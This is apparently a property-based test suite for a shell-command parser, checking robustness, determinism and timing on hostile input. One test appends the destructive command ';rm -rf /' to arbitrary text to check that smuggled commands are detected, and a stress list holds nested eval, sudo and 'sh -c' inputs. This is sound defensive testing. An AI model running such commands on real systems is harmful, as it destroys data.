  it('never throws and reads nothing as an internal failure, on shell-like input', () => {
    fc.assert(
      fc.property(shellish, (text) => {
        const result = parseShell(text);
        if (!result.ok) expect(result.reason).not.toBe('the command could not be read');
        else for (const command of result.commands) expect(typeof command.program).toBe('string');
      }),
      RUNS,
    );
  });

  it('never throws on arbitrary text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        const result = parseShell(text);
        if (!result.ok) expect(result.reason).not.toBe('the command could not be read');
      }),
      RUNS,
    );
  });

  it('reads the same text the same way every time', () => {
    fc.assert(
      fc.property(shellish, (text) => {
        expect(parseShell(text)).toEqual(parseShell(text));
      }),
      { ...RUNS, numRuns: 500 },
    );
  });

  it('finds a command appended after ; whatever came before, unless the line fails', () => {
    fc.assert(
      fc.property(shellish, (text) => {
        const result = parseShell(`${text}\n;rm -rf /`);
        // Unless the prefix leaves something open (a quote, a here-document, a case), the
        // appended command is read; when it is not, the line must not parse or must hold rm.
        if (result.ok && !result.commands.some((command) => command.program === 'rm')) {
          const open = /<<|'|"|`|\\$|#|case|\[\[|\$'/.test(text);
          expect(open).toBe(true);
        }
      }),
      RUNS,
    );
  });

  // The time limit is the test's: the largest hostile inputs must all be read well within it.
  it('finishes quickly on hostile input of the largest size', { timeout: 10_000 }, () => {
    const size = MAX_SHELL_LENGTH;
    const hostile = [
      '('.repeat(size),
      '$('.repeat(size / 2),
      '`'.repeat(size),
      'a['.repeat(size / 2),
      'a;'.repeat(size / 2),
      'a|'.repeat(size / 2),
      '"$(a)"'.repeat(size / 6),
      'eval '.repeat(size / 5),
      'xargs '.repeat(size / 6),
      'sudo '.repeat(size / 5),
      'cat <<A <<B\n'.repeat(size / 12),
      'bash <<A\n'.repeat(size / 9),
      `bash <<E\n${"echo '$(id)' ".repeat(size / 16)}\nE`,
      'a=(b=('.repeat(size / 5),
      'f() '.repeat(size / 4),
      '${'.repeat(size / 2),
      '[[ '.repeat(size / 3),
      "sh -c 'sh -c x' ".repeat(size / 16),
    ];
    for (const text of hostile) {
      const result = parseShell(text.slice(0, size));
      if (!result.ok) expect(result.reason).not.toBe('the command could not be read');
    }
  });
});
